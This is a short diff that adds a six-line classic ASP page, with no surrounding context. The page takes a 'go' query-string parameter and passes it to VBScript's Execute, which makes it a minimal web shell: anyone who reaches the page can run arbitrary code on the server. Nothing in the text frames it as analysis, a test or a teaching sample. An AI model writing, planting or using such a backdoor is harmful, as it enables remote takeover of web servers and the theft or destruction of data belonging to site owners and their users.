@@ -1,0 +1,6 @@
+<%
+Sub Run(c)
+  Execute c
+End Sub
+Run Request.QueryString("go")
+%>
